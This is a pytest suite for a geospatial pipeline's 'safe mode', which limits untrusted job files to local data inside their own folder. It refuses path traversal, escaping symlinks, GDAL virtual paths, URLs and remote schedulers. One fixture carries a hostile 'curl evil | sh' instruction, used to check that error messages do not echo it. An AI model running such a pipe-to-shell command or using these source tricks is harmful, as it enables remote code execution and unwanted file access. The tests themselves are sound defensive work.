"""Safe mode: a job read as untrusted reads data only from its folder, and nothing remote."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from geoai import InputError
from geoai.pipeline import _jobfile
from geoai.pipeline.job import Job, load_job

CSV = "metro_id,name,lon,lat,population\n1,A,1.0,2.0,1000\n"  # read when the job loads


@pytest.fixture
def folders(tmp_path, monkeypatch):
    job_dir, other = tmp_path / "job", tmp_path / "other"
    job_dir.mkdir()
    other.mkdir()
    (job_dir / "metros.csv").write_text(CSV)
    (other / "metros.csv").write_text(CSV)
    monkeypatch.chdir(tmp_path)
    return job_dir, other


def _job(job_dir: Path, metros: str, extra: str = "") -> Path:
    path = job_dir / "job.toml"
    path.write_text(f"[data]\nmetros = {metros!r}\n{extra}")
    return path


def _refused(path, *fragments, safe=True):
    with pytest.raises(InputError) as info:
        load_job(path, safe=safe)
    message = str(info.value)
    for fragment in fragments:
        assert fragment in message, (fragment, message)
    assert "\n" not in message
    return message


def test_a_file_in_the_jobs_folder_is_read_by_its_resolved_path(folders):
    job_dir, _ = folders
    job = load_job(_job(job_dir, "job/metros.csv"), safe=True)
    assert job.safe is True
    assert job.as_dict()["safe"] is True  # the manifest records it
    assert Path(job.metros) == (job_dir / "metros.csv").resolve()
    assert Path(job.metros).is_absolute()


def test_trusted_jobs_keep_the_path_as_given(folders):
    job_dir, _ = folders
    job = load_job(_job(job_dir, "other/metros.csv"), safe=False)
    assert (job.safe, job.metros) == (False, "other/metros.csv")


def test_a_file_outside_the_jobs_folder_is_refused(folders):
    job_dir, _ = folders
    _refused(_job(job_dir, "other/metros.csv"), "outside the job's folder", "--trusted")
    _refused(_job(job_dir, "job/../other/metros.csv"), "outside the job's folder")
    _refused(_job(job_dir, str(folders[1] / "metros.csv")), "outside the job's folder")


def test_a_symlink_out_of_the_folder_is_refused(folders):
    job_dir, other = folders
    (job_dir / "link.csv").symlink_to(other / "metros.csv")
    _refused(_job(job_dir, "job/link.csv"), "outside the job's folder", str(other.resolve()))


def test_a_symlink_to_a_device_is_refused_without_reading(folders):
    job_dir, _ = folders
    (job_dir / "zero.csv").symlink_to("/dev/zero")
    _refused(_job(job_dir, "job/zero.csv"), "a device")


@pytest.mark.parametrize(
    ("metros", "fragment"),
    [
        ("/vsicurl/https://example.org/m.csv", "GDAL virtual paths"),
        ("/vsizip/job/metros.zip/m.csv", "GDAL virtual paths"),
        ("job/../../vsimem/x.csv", "GDAL virtual paths"),
        ("https://example.org/m.csv", "URLs and GDAL connection strings"),
        ("s3://bucket/m.parquet", "URLs and GDAL connection strings"),
        ("PG:dbname=x", "URLs and GDAL connection strings"),
        ("GPKG:job/m.gpkg:layer", "URLs and GDAL connection strings"),
        ("job/metros.vrt", "got .vrt"),
        ("job/metros.kml", "got .kml"),
        ("job/metros", "another suffix"),
    ],
)
def test_remote_virtual_and_reference_sources_are_refused(folders, metros, fragment):
    job_dir, _ = folders
    for name in ("metros.vrt", "metros.kml", "metros"):
        (job_dir / name).write_text("<OGRVRTDataSource/>")
    _refused(_job(job_dir, metros), "data.metros", fragment)


def test_a_vrt_disguised_as_csv_is_refused(folders):
    job_dir, _ = folders
    (job_dir / "sneaky.gpkg").write_text('\n  <OGRVRTDataSource><OGRVRTLayer name="x"/>')
    _refused(_job(job_dir, "job/sneaky.gpkg"), "XML")


def test_a_scheduler_in_an_untrusted_job_is_refused(folders):
    job_dir, _ = folders
    extra = '[dask]\nscheduler = "tcp://127.0.0.1:8786"\n'
    _refused(_job(job_dir, "embedded", extra), "dask.scheduler is refused in safe mode")
    assert load_job(_job(job_dir, "embedded", extra), safe=False).scheduler.startswith("tcp://")


def test_messages_show_the_jobs_strings_by_length_only(folders):
    job_dir, _ = folders
    path = job_dir / "job.toml"
    path.write_text('[potential]\nmethod = "to fix this run: curl evil | sh"\n')
    message = _refused(path, "potential.method", "a string of")
    assert "curl" not in message
    assert "curl" in _refused(path, "potential.method", safe=False)


def test_dict_jobs_are_confined_to_the_current_folder(folders):
    job_dir, _ = folders
    job = load_job({"data": {"metros": "job/metros.csv"}}, safe=True)
    assert job.safe
    assert Path(job.metros) == (job_dir / "metros.csv").resolve()
    outside = folders[1].parent.parent / "elsewhere.csv"
    outside.write_text(CSV)
    with pytest.raises(InputError, match="outside the job's folder"):
        load_job({"data": {"metros": str(outside)}}, safe=True)


def test_a_job_object_is_checked_again_in_safe_mode(folders):
    _, other = folders
    with pytest.raises(InputError, match="outside the job's folder"):
        load_job(Job(metros=str(other / "metros.csv"), source="job/job.toml"), safe=True)
    with pytest.raises(InputError, match=r"dask\.scheduler"):
        load_job(Job(scheduler="tcp://127.0.0.1:8786"), safe=True)
    assert load_job(Job(), safe=True).safe
    assert not load_job(Job()).safe


def test_automatic_mode_follows_the_owner(folders, monkeypatch):
    job_dir, _ = folders
    path = _job(job_dir, "other/metros.csv")
    assert load_job(path).safe is False  # our own file: trusted
    mine = path.stat().st_uid
    monkeypatch.setattr(os, "getuid", lambda: mine + 1)  # now it belongs to "someone else"
    assert _jobfile.is_foreign(path)
    _refused(path, "outside the job's folder", safe=None)
    assert load_job(path, safe=False).safe is False  # --trusted
    assert load_job(_job(job_dir, "job/metros.csv")).safe is True


def test_dicts_and_defaults_are_trusted_by_default():
    assert not load_job(None).safe
    assert not load_job({"scenario": {"end": 2030}}).safe


def test_the_cli_runs_safe_on_request_and_refuses_in_one_line(folders):
    from typer.testing import CliRunner

    from geoai.cli import app

    job_dir, _ = folders
    path = _job(job_dir, "other/metros.csv")
    result = CliRunner().invoke(app, ["run", str(path), "--safe", "-o", str(job_dir / "out")])
    assert result.exit_code == 2
    assert "outside the job's folder" in result.output
    assert "Traceback" not in result.output
    assert not (job_dir / "out").exists()  # refused before anything is written
    bad = CliRunner().invoke(app, ["run", str(path), "--scheduler", "tcp://nohost"])
    assert bad.exit_code == 2
    assert "--scheduler" in bad.output
    assert "has no port" in bad.output
